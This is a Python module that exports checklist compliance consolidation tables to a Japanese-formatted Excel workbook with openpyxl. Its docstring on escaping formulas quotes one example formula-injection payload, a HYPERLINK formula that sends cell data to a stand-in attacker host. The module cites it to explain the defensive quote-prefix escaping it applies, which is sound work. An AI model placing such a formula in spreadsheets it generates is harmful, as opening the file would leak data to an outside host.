"""The consolidation tables as an Excel workbook: one sheet per table, Japanese headers.

Sheets: 項目別集計 (per item), 分布 (items by how many units broke them), 重複除外
(unions, when the checklist has any), 職員種別 (by staff type, with `--by`), 要因 (reasons
of the most broken items). Numbers are numbers and rates are percentages, so the office
can go on computing in Excel; each table starts at row 1, so a filter or a formula finds it
where it always was.

Printed as the office files it: a Japanese font, columns as wide as their text (a
full-width character counts two), long text wrapped, A4 fitted to the page width, the
heading row repeated on every page, and a page header naming the checklist, the scope, the
population and the date ("n / N" at the foot).
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from inspector.domain.business_days import japan_today
from inspector.domain.checklist import AnswerType, Checklist, Unit
from inspector.domain.consolidation import Consolidation
from inspector.domain.era import format_date
from inspector.domain.model import STAFF_TYPE_JA, StaffType
from inspector.output_files import OutputGuard

SHEET_ITEMS = "項目別集計"
SHEET_DISTRIBUTION = "分布"
SHEET_UNIONS = "重複除外"
SHEET_GROUPS = "職員種別"
SHEET_REASONS = "要因"

FONT_NAME = "游ゴシック"  # Excel's own Japanese font since Office 2016
FONT_SIZE = 11
_FONT = Font(name=FONT_NAME, size=FONT_SIZE)
_HEADER_FONT = Font(name=FONT_NAME, size=FONT_SIZE, bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
_PERCENT = "0.0%"
MAX_WIDTH = 60  # display columns: longer text wraps
MIN_WIDTH = 6
HEADING_WIDTH = 16  # a longer column heading wraps rather than widen its column


@dataclass(frozen=True)
class SheetHeader:
    """What the printed page header names: the checklist, the scope, the population, the
    date."""

    checklist: str
    scope: str
    population: str
    day: str


def display_width(value: object) -> int:
    """Columns a value takes on screen: a full-width (East Asian wide) character counts 2."""
    if value is None:
        return 0
    if isinstance(value, float):
        text = f"{value:.1%}" if 0 <= value <= 1 else f"{value:g}"
    else:
        text = str(value)
    return sum(2 if unicodedata.east_asian_width(ch) in "WFA" else 1 for ch in text)


def _header_text(text: str) -> str:
    """Text for an Excel header section: `&` starts a code there, so it is doubled."""
    return text.replace("&", "&&")


def _print_setup(ws: Worksheet, header: SheetHeader | None) -> None:
    """Japanese font everywhere, widths by display width, long text wrapped, A4 fitted to
    the page width, the heading row on every printed page, the page header and footer."""
    widths: dict[int, int] = {}
    for row in ws.iter_rows():
        for cell in row:
            width = display_width(cell.value)
            if cell.row == 1:
                cell.font = _HEADER_FONT
                width = min(width, HEADING_WIDTH)
            else:
                cell.font = _FONT
                cell.alignment = Alignment(wrap_text=width > MAX_WIDTH, vertical="top")
            column = int(cell.column or 1)
            widths[column] = max(widths.get(column, 0), min(width, MAX_WIDTH))
    total = 0
    for column, width in widths.items():
        chars = max(width, MIN_WIDTH) + 2
        ws.column_dimensions[get_column_letter(column)].width = chars
        total += chars
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = "landscape" if total > 95 else "portrait"
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages down as the rows need
    ws.print_title_rows = "1:1"
    ws.print_options.gridLines = True
    if header is not None:
        for part, text in (
            (ws.oddHeader.left, header.checklist),
            (ws.oddHeader.center, f"{header.scope}　{header.population}"),
            (ws.oddHeader.right, header.day),
        ):
            part.text = _header_text(text)
            part.font = f"{FONT_NAME},標準"
            part.size = 9
        ws.oddFooter.center.text = "&P / &N"
        ws.oddFooter.center.size = 9


def _is_hearing(checklist: Checklist) -> bool:
    judged = [i for i in checklist.items if i.answer in (AnswerType.COMPLIANCE, AnswerType.YES_NO)]
    return (
        checklist.unit is Unit.RESPONDENT
        and bool(judged)
        and all(i.answer is AnswerType.YES_NO for i in judged)
    )


def _staff_type_ja(group: str) -> str:
    try:
        return STAFF_TYPE_JA[StaffType(group)]
    except ValueError:
        return group


def _sheet(
    wb: Workbook,
    title: str,
    headers: list[str],
    rows: list[list[Any]],
    header: SheetHeader | None = None,
) -> Worksheet:
    ws = wb.create_sheet(title)
    ws.append(headers)
    for cell in ws[1]:
        cell.font = _HEADER_FONT
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    for row in rows:
        ws.append(row)
    _text_as_text(ws)
    ws.freeze_panes = "A2"
    _print_setup(ws, header)
    return ws


def _text_as_text(ws: Worksheet) -> None:
    """Every value is data: openpyxl takes a str starting with `=` for a formula, and a
    reason typed as `=HYPERLINK("http://evil.example/?"&B2)` would run when the office
    opens the workbook. Such a cell is kept as a string, with Excel's quote prefix so
    that editing it does not make it a formula either."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"):
                cell.data_type = "s"
                cell.quotePrefix = True


def _percent_column(ws: Worksheet, column: int) -> None:
    for (cell,) in ws.iter_rows(min_row=2, min_col=column, max_col=column):
        cell.number_format = _PERCENT


def sheet_header(
    checklist: Checklist, result: Consolidation, lang: str, scope: str, today: date | None
) -> SheetHeader:
    person = checklist.unit is Unit.RESPONDENT
    return SheetHeader(
        checklist=f"{checklist.title.get(lang)}（版 {checklist.version}）",
        scope=f"対象：{scope or ('全操作者' if person else '全機関')}",
        population=f"集計対象：{result.population}{'名' if person else '機関'}",
        day=f"作成日：{format_date(today or japan_today(), lang)}",
    )


def build_workbook(
    checklist: Checklist,
    result: Consolidation,
    lang: str = "ja",
    *,
    scope: str = "",
    today: date | None = None,
) -> Workbook:
    wb = Workbook()
    header = sheet_header(checklist, result, lang, scope, today)
    wb.properties.title = f"集計結果 {checklist.title.get(lang)}"
    wb.properties.subject = f"{header.scope} {header.population} {header.day}"
    default = wb.active
    if default is not None:
        wb.remove(default)
    hearing = _is_hearing(checklist)
    person = checklist.unit is Unit.RESPONDENT
    good, bad = ("無し", "有り") if hearing else ("遵守", "不遵守")
    ws = _sheet(
        wb,
        SHEET_ITEMS,
        [
            "項目ID",
            "点検項目",
            good,
            bad,
            "該当なし",
            "未回答",
            "その他の回答",
            "対象数",
            f"{bad}率",
        ],
        [
            [
                c.item,
                checklist.item(c.item).text.get(lang),
                c.compliant,
                c.noncompliant,
                c.not_applicable,
                c.unanswered,
                c.answered,
                c.applicable,
                c.rate,
            ]
            for c in result.items
        ],
        header,
    )
    _percent_column(ws, 9)
    unit_word = "操作者数" if person else "機関数"
    first_label = "0（全操作者遵守）" if person else "0（全機関遵守）"
    ws = _sheet(
        wb,
        SHEET_DISTRIBUTION,
        [f"遵守できていない{unit_word}", "項目数", "割合", "項目ID"],
        [
            [
                first_label if b.min == 0 and b.max == 0 else b.label_ja(),
                b.items,
                b.share,
                " ".join(b.item_ids),
            ]
            for b in result.distribution
        ],
        header,
    )
    _percent_column(ws, 3)
    if checklist.unions:
        ws = _sheet(
            wb,
            SHEET_UNIONS,
            ["ID", "区分", "設問", "人数" if person else "機関数", "集計対象", "割合"],
            [
                [
                    u.id,
                    u.label.get(lang),
                    "・".join(u.items),
                    result.unions[u.id],
                    result.population,
                    result.unions[u.id] / result.population if result.population else 0.0,
                ]
                for u in checklist.unions
            ],
            header,
        )
        _percent_column(ws, 6)
    if result.groups is not None:
        groups = list(result.groups)
        rows: list[list[Any]] = [
            ["集計対象", *(result.groups[g].population for g in groups), result.population]
        ]
        judged = {i for g in groups for i in result.groups[g].items}
        for c in result.items:
            if c.item in judged:
                rows.append(
                    [c.item, *(result.groups[g].items[c.item] for g in groups), c.noncompliant]
                )
        for u in checklist.unions:
            rows.append(
                [u.id, *(result.groups[g].unions[u.id] for g in groups), result.unions[u.id]]
            )
        _sheet(
            wb, SHEET_GROUPS, ["設問", *(_staff_type_ja(g) for g in groups), "合計"], rows, header
        )
    reason_rows: list[list[Any]] = []
    for rank, entry in enumerate(result.reasons, start=1):
        text = checklist.item(entry.item).text.get(lang)
        if not entry.reasons:
            reason_rows.append([rank, entry.item, text, entry.noncompliant, "", None])
        for reason in entry.reasons:
            reason_rows.append(
                [rank, entry.item, text, entry.noncompliant, reason.label, reason.count]
            )
    _sheet(
        wb, SHEET_REASONS, ["順位", "項目ID", "点検項目", bad, "要因", "件数"], reason_rows, header
    )
    return wb


def write_consolidation(
    path: Path,
    checklist: Checklist,
    result: Consolidation,
    lang: str = "ja",
    *,
    guard: OutputGuard | None = None,
    scope: str = "",
    today: date | None = None,
) -> Path:
    """Write the workbook to `path` under `guard`'s rules (default: never over an existing
    file), through a temporary file, so a failure leaves no half file."""
    wb = build_workbook(checklist, result, lang, scope=scope, today=today)
    with (guard or OutputGuard()).temporary(path) as tmp:
        wb.save(tmp)
    return path


__all__ = [
    "SHEET_DISTRIBUTION",
    "SHEET_GROUPS",
    "SHEET_ITEMS",
    "SHEET_REASONS",
    "SHEET_UNIONS",
    "SheetHeader",
    "build_workbook",
    "display_width",
    "sheet_header",
    "write_consolidation",
]
